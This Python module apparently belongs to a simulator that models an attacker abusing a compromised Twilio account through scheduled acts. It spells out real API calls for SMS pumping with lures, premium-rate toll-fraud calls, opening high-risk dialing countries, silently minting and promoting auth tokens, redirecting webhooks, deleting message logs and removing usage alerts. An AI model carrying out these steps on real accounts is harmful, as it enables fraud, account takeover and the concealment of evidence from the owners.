"""What a thief does through the API: each act a small value that is put into the world's agenda."""

from collections.abc import Iterable
from dataclasses import dataclass, replace
from datetime import timedelta

import msgspec

from . import lures
from .destinations import DESTINATIONS, Destination
from .hands import Hands

_ACCOUNTS = "https://api.twilio.com/2010-04-01/Accounts.json"
_SERVICES = "https://messaging.twilio.com/v1/Services"
_TOKENS = "https://accounts.twilio.com/v1/AuthTokens"
_COUNTRY_CLOSED = (21408, 21215)


@dataclass(frozen=True)
class MovesTo:
    address: str

    def __call__(self, hands: Hands) -> None:
        hands.address = self.address


@dataclass(frozen=True)
class Reads:
    """Look round: account, balance, numbers, services, subaccounts with their tokens. Leaves no event."""

    def __call__(self, hands: Hands) -> None:
        main = hands.account_sid
        hands.ask("GET", f"{hands.of(main)}.json", token=True)
        hands.ask("GET", f"{hands.of(main)}/Balance.json")
        self._numbers(hands, main)
        services = hands.ask("GET", f"{_SERVICES}?PageSize=50", own=True).body.get("services", [])
        hands.service_sid = services[0]["sid"] if services else ""
        accounts = hands.ask(
            "GET", "https://api.twilio.com/2010-04-01/Accounts.json?PageSize=100", token=True
        )
        for account in accounts.body.get("accounts", []):
            if account["sid"] != main:
                hands.holds(account["sid"], account.get("auth_token") or "", account["sid"], "read")
                self._numbers(hands, account["sid"])

    def _numbers(self, hands: Hands, account_sid: str) -> None:
        reply = hands.ask(
            "GET", f"{hands.of(account_sid)}/IncomingPhoneNumbers.json", account_sid=account_sid
        )
        rows = reply.body.get("incoming_phone_numbers", [])
        hands.numbers[account_sid] = [row["phone_number"] for row in rows]
        hands.made.update({f"number {row['phone_number']}": row["sid"] for row in rows})


@dataclass(frozen=True)
class SendsMessages:
    """Send `left` messages, one each `every`; a closed country is opened again, a dead credential changed."""

    left: int
    every: timedelta
    to: str
    family: str
    by: str = "numbers"
    """`numbers`: the owner's; `service`: the Messaging Service; `farm`: numbers of his own subaccounts."""
    index: int = 0
    send_after: timedelta | None = None
    """Not now but so long from now: scheduled with Twilio."""

    def __call__(self, hands: Hands) -> None:
        self._one(hands)
        if self.left > 1:
            hands.later(self.every, replace(self, left=self.left - 1, index=self.index + 1))

    def _one(self, hands: Hands) -> None:
        target = DESTINATIONS[self.to]
        account_sid = _in_turn(hands.farm, self.index) if self.by == "farm" else _open_account(hands)
        sender = _sender(hands, self, account_sid)
        if sender is None:
            return
        form = {
            "To": target.number(self.index, hands.chance),
            "Body": lures.write(self.family, target.language, hands.chance),
            **sender,
        }
        if self.send_after:
            at = hands.world.now + self.send_after
            form |= {"ScheduleType": "fixed", "SendAt": at.strftime("%Y-%m-%dT%H:%M:%SZ")}
        reply = hands.ask("POST", f"{hands.of(account_sid)}/Messages.json", form, account_sid=account_sid)
        if reply.ok:
            hands.sent.append((account_sid, reply.body["sid"]))
        elif reply.code in _COUNTRY_CLOSED and len(hands.opened) < 12:
            OpensCountries((self.to,))(hands)


def _sender(hands: Hands, act: SendsMessages, account_sid: str) -> dict[str, str] | None:
    service = bool(hands.service_sid) and act.by == "service"
    if service or act.send_after:
        return {"MessagingServiceSid": hands.service_sid} if hands.service_sid else None
    numbers = hands.numbers.get(account_sid, [])
    return {"From": numbers[act.index % len(numbers)]} if numbers else None


def _open_account(hands: Hands) -> str:
    """The main account; when he is locked out there, any subaccount whose credentials he holds."""
    accounts = [hands.account_sid, *hands.numbers]
    return next((sid for sid in accounts if hands.fitting(sid)), hands.account_sid)


def _in_turn(values: list[str], index: int) -> str:
    return values[index % len(values)] if values else ""


@dataclass(frozen=True)
class PlacesCalls:
    """Place `left` calls to costly numbers, one each `every`, each of `seconds` (at most 4 h)."""

    left: int
    every: timedelta
    to: str
    seconds: int
    index: int = 0

    def __call__(self, hands: Hands) -> None:
        target: Destination = DESTINATIONS[self.to]
        numbers = hands.numbers.get(hands.account_sid, [])
        if numbers:
            form = {
                "To": target.number(self.index, hands.chance),
                "From": _in_turn(numbers, self.index),
                "Twiml": f'<Response><Pause length="{self.seconds}"/></Response>',
                "TimeLimit": str(self.seconds),
            }
            reply = hands.ask("POST", f"{hands.of('')}/Calls.json", form)
            if reply.code in _COUNTRY_CLOSED and len(hands.opened) < 12:
                OpensCountries((self.to,))(hands)
        if self.left > 1:
            hands.later(self.every, replace(self, left=self.left - 1, index=self.index + 1))


@dataclass(frozen=True)
class OpensCountries:
    """Allow messages and calls, premium numbers too, to the countries of these destinations."""

    to: tuple[str, ...]

    def __call__(self, hands: Hands) -> None:
        countries = sorted({DESTINATIONS[name].country for name in self.to})
        hands.opened += countries
        permissions = [{"country_code": code, "type": "country", "enabled": True} for code in countries]
        for item in permissions:
            text = msgspec.json.encode(item).decode()
            url = "https://accounts.twilio.com/v1/Messaging/GeoPermissions"
            hands.ask("PATCH", url, {"Permissions": text}, own=True)
        on = dict.fromkeys(_VOICE_RISKS, "true")
        update = msgspec.json.encode([{"iso_code": code, **on} for code in countries]).decode()
        url = "https://voice.twilio.com/v1/DialingPermissions/BulkCountryUpdates"
        hands.ask("POST", url, {"UpdateRequest": update}, own=True)


_VOICE_RISKS = (
    "low_risk_numbers_enabled",
    "high_risk_special_numbers_enabled",
    "high_risk_tollfraud_numbers_enabled",
)


@dataclass(frozen=True)
class BuysNumbers:
    """Buy `each` numbers in the account, or in each subaccount of the farm."""

    each: int
    area: str = "251"
    farm: bool = False

    def __call__(self, hands: Hands) -> None:
        for account_sid in hands.farm if self.farm else [hands.account_sid]:
            for _ in range(self.each):
                number = f"+1{self.area}55501{hands.chance.randrange(100):02d}"
                url = f"{hands.of(account_sid)}/IncomingPhoneNumbers.json"
                reply = hands.ask("POST", url, {"PhoneNumber": number}, account_sid=account_sid)
                if reply.ok:
                    hands.numbers.setdefault(account_sid, []).append(reply.body["phone_number"])


@dataclass(frozen=True)
class CreatesSubaccounts:
    """Make subaccounts; the answer brings each one's token, and `keys` makes a key of its own in each."""

    names: tuple[str, ...]
    keys: bool = False

    def __call__(self, hands: Hands) -> None:
        for name in self.names:
            reply = hands.ask("POST", _ACCOUNTS, {"FriendlyName": name}, token=True)
            if not reply.ok:
                continue
            sid = reply.body["sid"]
            hands.holds(sid, reply.body["auth_token"], sid, "made")
            hands.farm.append(sid)
            if self.keys:
                hands.makes_key(sid, "prod-sms")


@dataclass(frozen=True)
class CreatesApiKey:
    name: str

    def __call__(self, hands: Hands) -> None:
        hands.makes_key(hands.account_sid, self.name)


@dataclass(frozen=True)
class MintsSecondary:
    """Make a second auth token, without a mail to the owner; promoting it hands the account over."""

    promote: bool = False

    def __call__(self, hands: Hands) -> None:
        quiet = {"SuppressEmailNotification": "true"}
        reply = hands.ask("POST", f"{_TOKENS}/Secondary", quiet, token=True, own=True)
        if not reply.ok:
            return
        main = hands.account_sid
        hands.holds(main, reply.body["secondary_auth_token"], main, "made")
        if self.promote:
            hands.ask("POST", f"{_TOKENS}/Promote", quiet, token=True, own=True)


@dataclass(frozen=True)
class MovesWebhook:
    """Point the numbers or the Messaging Service to a foreign host."""

    what: str
    """`number` or `service`."""
    field: str
    """`sms_url`, `sms_fallback_url`, `inbound_request_url`, …"""
    url: str
    back: bool = False
    """Give the field the value that it had before."""

    def __call__(self, hands: Hands) -> None:
        name = "".join(part.capitalize() for part in self.field.split("_"))
        own = self.what == "service"
        for place in self._places(hands):
            before = str(hands.ask("GET", place, own=own).body.get(self.field) or "")
            remembered = hands.made.setdefault(f"{place} {self.field}", before)
            hands.ask("POST", place, {name: remembered if self.back else self.url}, own=own)

    def _places(self, hands: Hands) -> list[str]:
        if self.what == "service":
            return [f"{_SERVICES}/{hands.service_sid}"] if hands.service_sid else []
        sids = [hands.made[f"number {number}"] for number in hands.numbers.get(hands.account_sid, [])]
        return [f"{hands.of('')}/IncomingPhoneNumbers/{sid}.json" for sid in sids]


@dataclass(frozen=True)
class DeletesMessages:
    """Delete the last `number` messages that he sent: they are not in the log any more."""

    number: int

    def __call__(self, hands: Hands) -> None:
        done = 0
        for account_sid, sid in list(hands.sent[:-3]):  # the newest are still on their way
            if done == self.number:
                return
            url = f"{hands.of(account_sid)}/Messages/{sid}.json"
            if hands.ask("DELETE", url, account_sid=account_sid).ok:
                hands.sent.remove((account_sid, sid))
                done += 1


@dataclass(frozen=True)
class RemovesUsageTriggers:
    """Delete the first `number` usage triggers, so that nobody is woken."""

    number: int = 1

    def __call__(self, hands: Hands) -> None:
        url = f"{hands.of('')}/Usage/Triggers"
        rows: Iterable[dict[str, str]] = hands.ask("GET", f"{url}.json").body.get("usage_triggers", [])
        for row in list(rows)[: self.number]:
            hands.ask("DELETE", f"{url}/{row['sid']}.json")


@dataclass(frozen=True)
class HoldsOn:
    """Come back each `every`: try everything held, and keep a key of his own in the account."""

    left: int
    every: timedelta

    def __call__(self, hands: Hands) -> None:
        hands.looks_in_console()
        for held in hands.held:
            url = f"{hands.of(held.account_sid)}/IncomingPhoneNumbers.json?PageSize=1"
            held.dead = hands.ask_with(held, "GET", url).status in (401, 403)
        has_key = any(not held.is_token and not held.dead for held in hands.held)
        if not has_key and hands.keys_made < 6 and hands.fitting(hands.account_sid, token=True):
            hands.makes_key(hands.account_sid, f"backup-{hands.keys_made + 1}")
        if self.left > 1:
            hands.later(self.every, replace(self, left=self.left - 1))
